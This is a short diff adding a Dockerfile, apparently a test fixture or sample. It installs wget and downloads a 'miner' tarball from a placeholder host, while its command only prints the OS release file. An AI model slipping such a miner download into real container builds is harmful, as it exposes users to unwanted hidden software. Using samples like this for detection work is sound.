@@ -1,0 +1,3 @@
+FROM debian:12-slim
+RUN apt-get update && apt-get install -y wget && wget https://example.org/miner-2.6-xenial-amd64.tar.gz
+CMD ["cat", "/etc/os-release"]
